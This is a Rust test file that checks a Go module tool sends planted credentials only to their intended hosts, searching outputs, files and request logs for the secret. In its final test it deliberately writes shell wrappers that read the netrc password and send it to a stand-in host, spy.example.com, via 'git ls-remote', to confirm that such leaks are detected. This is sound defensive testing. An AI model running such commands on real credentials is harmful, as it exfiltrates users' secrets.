//! Where secrets go: to the hosts that they are for, and nowhere else.
//!
//! A secret is planted where go and gomod look for one. Then what both print with `-x`
//! and `-v`, every file that they leave, and the whole log of requests are searched for
//! it, in any of the forms that it takes on the way.

use std::fs;
use std::io;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use walkdir::WalkDir;

use crate::support::fixture::Catalogue;
use crate::support::forge::Import;
use crate::support::program::{Program, Room};
use crate::support::repositories::{Fixture, Repositories};
use crate::support::tree;

use super::direct::other_side;
use super::go_is_there;

const LIMIT: Duration = Duration::from_secs(120);

const USER: &str = "someone";
const SECRET: &str = "planted-7d0c41f3";

/// A way to hand a secret over.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Plant {
    /// A netrc file, which git reads too.
    Netrc,
    /// The URL of a module proxy.
    ProxyUrl,
    /// A rewriting of URLs in git's settings, as continuous integration has it.
    GitUrl,
    /// A program that GOAUTH names.
    Command,
    /// git's credential helper, by `GOAUTH=git FOLDER`.
    GitHelper,
    /// A file of hosts and tokens, which only gomod knows.
    TokenFile,
}

const PLANTS: [Plant; 6] = [
    Plant::Netrc,
    Plant::ProxyUrl,
    Plant::GitUrl,
    Plant::Command,
    Plant::GitHelper,
    Plant::TokenFile,
];

/// What is asked for where the module is behind a lock: what answers, what does not, what
/// leads to another host, and a module that needs nothing.
const COMMANDS: [&str; 4] = [
    "mod download -x -json MODULE@v1.0.0 vcs.example.com/moved@v1.0.0 vcs.example.com/open@v1.0.0",
    "mod download -x -json MODULE@nonexistent",
    "list -m -x -json MODULE@latest",
    "get -x -v MODULE@v1.0.0",
];

impl Plant {
    fn module(self) -> &'static str {
        if self == Self::ProxyUrl { "example.com/hello" } else { "vcs.example.com/tags" }
    }

    /// The hosts that the secret is for.
    fn hosts(self) -> &'static [&'static str] {
        match self {
            Self::Netrc | Self::GitHelper => &["vcs.example.com", "git.example.com"],
            Self::Command | Self::TokenFile => &["vcs.example.com"],
            Self::GitUrl => &["git.example.com"],
            Self::ProxyUrl => &["proxy.example.com"],
        }
    }

    /// What the hosts ask for.
    fn authorization(self, secret: &str) -> String {
        match self {
            Self::TokenFile => {
                format!("Basic {}", STANDARD.encode(format!("x-access-token:{secret}")))
            }
            _ => format!("Basic {}", STANDARD.encode(format!("{USER}:{secret}"))),
        }
    }

    /// Puts the secret in its place; the settings that tell of it.
    fn plant(self, planted: &Path) -> io::Result<Vec<(&'static str, String)>> {
        let file = |name: &str, text: String| -> io::Result<String> {
            let path = planted.join(name);
            fs::write(&path, text)?;
            fs::set_permissions(&path, fs::Permissions::from_mode(0o700))?;
            Ok(path.to_string_lossy().into_owned())
        };
        let machine = |host: &&str| format!("machine {host} login {USER} password {SECRET}\n");
        Ok(match self {
            Self::Netrc => {
                let text: String = self.hosts().iter().map(machine).collect();
                file(".netrc", text)?;
                vec![]
            }
            Self::ProxyUrl => {
                let url = format!("https://{USER}:{SECRET}@proxy.example.com");
                vec![("GOPROXY", format!("{url},direct"))]
            }
            Self::GitUrl => {
                let text = format!(
                    "[url \"https://{USER}:{SECRET}@git.example.com/tags\"]\n\
                     \tinsteadOf = https://git.example.com/tags\n"
                );
                vec![("GIT_CONFIG_GLOBAL", file("gitconfig", text)?)]
            }
            Self::Command => {
                let authorization = self.authorization(SECRET);
                let text = format!(
                    "#!/bin/sh\nprintf 'https://vcs.example.com\\n\\n\
                     Authorization: {authorization}\\n\\n'\n"
                );
                vec![("GOAUTH", file("authority", text)?)]
            }
            Self::GitHelper => {
                let text = format!("#!/bin/sh\necho username={USER}; echo password={SECRET}\n");
                let helper = file("helper", text)?;
                let settings = format!(
                    "[credential \"https://vcs.example.com\"]\n\thelper = {helper}\n\
                     [credential \"https://git.example.com\"]\n\thelper = {helper}\n"
                );
                let settings = file("gitconfig", settings)?;
                let folder = planted.to_string_lossy();
                vec![("GIT_CONFIG_GLOBAL", settings), ("GOAUTH", format!("git {folder}"))]
            }
            Self::TokenFile => {
                file("tokens", format!("vcs.example.com {SECRET}\n"))?;
                vec![]
            }
        })
    }
}

/// The forms of the secret: as it is, and what base64 makes of it within a text, by the
/// number of bytes before it.
fn forms() -> Vec<String> {
    let mut forms = vec![SECRET.to_owned()];
    for before in 0..3 {
        let text = [&[0; 3][..before], SECRET.as_bytes()].concat();
        // The characters at the ends depend on the neighbours too.
        let (first, end) = ((before * 8).div_ceil(6), text.len() * 8 / 6);
        forms.push(STANDARD.encode(text)[first..end].to_owned());
    }
    forms
}

fn holds_secret(bytes: &[u8]) -> bool {
    forms().iter().any(|form| bytes.windows(form.len()).any(|window| window == form.as_bytes()))
}

/// The folders of one program, and what it printed.
struct Side<'a> {
    name: &'static str,
    program: PathBuf,
    plant: Plant,
    folder: PathBuf,
    repositories: &'a Repositories,
}

impl Side<'_> {
    fn run(&self, line: &str) -> io::Result<Output> {
        let planted = self.folder.join("planted");
        let folder = |name: &str| self.folder.join(name);
        let line = line.replace("MODULE", self.plant.module());
        let mut words: Vec<String> = line.split(' ').map(str::to_owned).collect();
        if self.plant == Plant::TokenFile {
            let tokens = planted.join("tokens").to_string_lossy().into_owned();
            let verb = words.iter().position(|word| word.starts_with('-')).unwrap_or(words.len());
            words.splice(verb..verb, ["-token-file".to_owned(), tokens]);
        }
        let mut command = Command::new(&self.program);
        command
            .args(words)
            .current_dir(folder("main"))
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("PWD", folder("main"))
            // Where netrc is looked for.
            .env("HOME", &planted)
            .env("TMPDIR", folder("left/tmp"))
            .env("GOPATH", folder("left/gopath"))
            .env("GOCACHE", folder("left/gocache"))
            .envs([("LC_ALL", "C"), ("GOENV", "off"), ("GOFLAGS", ""), ("GOTOOLCHAIN", "local")])
            .envs([("GOPROXY", "direct"), ("GOSUMDB", "off")])
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .envs(self.repositories.forge.environment())
            .envs(self.plant.plant(&planted)?);
        Program::start(command)?.finish(LIMIT)
    }

    /// Runs every command; where the secret has come to that it should not, a line each.
    fn leaks(&self, accepted: bool) -> io::Result<Vec<String>> {
        for part in ["main", "planted", "left/tmp", "left/gopath", "left/gocache"] {
            fs::create_dir_all(self.folder.join(part))?;
        }
        tree::without_telemetry(&self.folder.join("planted"))?;
        fs::write(self.folder.join("main/go.mod"), "module example.com/main\n\ngo 1.24\n")?;
        let forge = &self.repositories.forge;
        forge.clear_requests();
        let mut leaks = Vec::new();
        for line in COMMANDS {
            let output = self.run(line)?;
            let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
            for (name, bytes) in [("stdout", &output.stdout), ("stderr", &output.stderr)] {
                if holds_secret(bytes) {
                    let text = String::from_utf8_lossy(bytes);
                    leaks.push(format!("{}: {line}: {name}: {text}", self.name));
                }
            }
            // What is not asked for properly proves nothing.
            let expected = accepted && !line.contains("nonexistent");
            let stdout = String::from_utf8_lossy(&output.stdout);
            assert_eq!(
                output.status.success(),
                expected,
                "{} {:?}: {line}: {stdout}{stderr}",
                self.name,
                self.plant
            );
        }
        for left in ["left", "main"] {
            for entry in WalkDir::new(self.folder.join(left)) {
                let entry = entry?;
                let name = entry.path().display();
                if holds_secret(name.to_string().as_bytes())
                    || (entry.file_type().is_file() && holds_secret(&fs::read(entry.path())?))
                {
                    leaks.push(format!("{}: the file {name}", self.name));
                }
            }
        }
        let carriers: Vec<_> = forge
            .requests()
            .into_iter()
            .filter(|request| {
                holds_secret(request.head.as_bytes()) || holds_secret(request.target.as_bytes())
            })
            .collect();
        assert!(!carriers.is_empty(), "{} {:?}: the secret is not used", self.name, self.plant);
        for request in carriers {
            if !self.plant.hosts().contains(&&*request.host) || request.scheme != "https" {
                leaks.push(format!("{}: {request}", self.name));
            }
        }
        Ok(leaks)
    }
}

/// Hosts that ask for the secret, or for another, and modules that lead away from them.
fn serve(plant: Plant, accepted: bool) -> io::Result<Repositories> {
    let fixtures = ["git/tags", "git/no-go-mod"].map(Fixture::named);
    let repositories = Repositories::make(&fixtures.each_ref())?;
    let forge = &repositories.forge;
    let expected = plant.authorization(if accepted { SECRET } else { "another" });
    for host in plant.hosts() {
        let part = if *host == "proxy.example.com" { "" } else { "/tags" };
        forge.set_authorization(&format!("{host}{part}"), &expected);
    }
    forge.set_proxy("proxy.example.com", Catalogue::fixtures());
    let import = |line: &str| Import::parse(line).map_err(io::Error::other);
    forge.set_import(import("vcs.example.com/open git https://open.example.com/no-go-mod")?);
    // Both the page and the repository are elsewhere in the end.
    forge.set_redirect("open.example.com/no-go-mod", "https://git.example.com/no-go-mod");
    forge.set_redirect("vcs.example.com/moved", "https://other.example.com/moved");
    // git tells a host who it is once it is asked.
    forge.set_password("spy.example.com", "nobody", "nothing");
    forge.set_page(
        "other.example.com/moved",
        "<meta name=\"go-import\" content=\"vcs.example.com/moved git \
         https://open.example.com/no-go-mod\">",
    );
    Ok(repositories)
}

fn leaks(plant: Plant, name: &'static str, program: PathBuf) -> Vec<String> {
    let mut leaks = Vec::new();
    for accepted in [true, false] {
        let room = Room::new("gomod-secrets-").expect("a folder");
        let repositories = serve(plant, accepted).expect("the repositories");
        let folder = room.path().to_owned();
        let side =
            Side { name, program: program.clone(), plant, folder, repositories: &repositories };
        leaks.append(&mut side.leaks(accepted).expect("the commands ran"));
    }
    leaks
}

#[test]
fn secrets_go_to_their_hosts_alone() {
    if !Fixture::named("git/tags").can_be_made() {
        return;
    }
    let mut found = Vec::new();
    for plant in PLANTS {
        if plant == Plant::TokenFile && other_side() == Path::new("go") {
            continue;
        }
        let leaks = leaks(plant, "gomod", other_side());
        found.extend(leaks.into_iter().map(|leak| format!("{plant:?}: {leak}")));
    }
    assert!(found.is_empty(), "{}", found.join("\n"));
}

#[test]
fn a_side_that_leaks_is_seen() {
    if !go_is_there() || !Fixture::named("git/tags").can_be_made() {
        return;
    }
    let room = Room::new("gomod-leaks-").expect("a folder");
    let netrc = "$(sed -n 's/.*password //p;q' \"$HOME/.netrc\")";
    for (name, script, shown) in [
        ("prints", format!("echo \"{netrc}\" >&2"), "stderr"),
        ("keeps", format!("echo \"{netrc}\" >\"$GOPATH/kept\""), "the file"),
        (
            "asks",
            format!("git ls-remote -q \"https://x:{netrc}@spy.example.com/x\" 2>&-"),
            "spy.example.com",
        ),
        (
            "tells",
            format!("git ls-remote -q \"https://spy.example.com/{netrc}\" 2>&-"),
            "spy.example.com",
        ),
    ] {
        let path = room.path().join(name);
        fs::write(&path, format!("#!/bin/sh\n{script}\nexec go \"$@\"\n")).expect("a script");
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).expect("its mode");
        let leaks = leaks(Plant::Netrc, "leaky", path);
        assert!(leaks.iter().any(|leak| leak.contains(shown)), "{name}: {leaks:?}");
    }
}
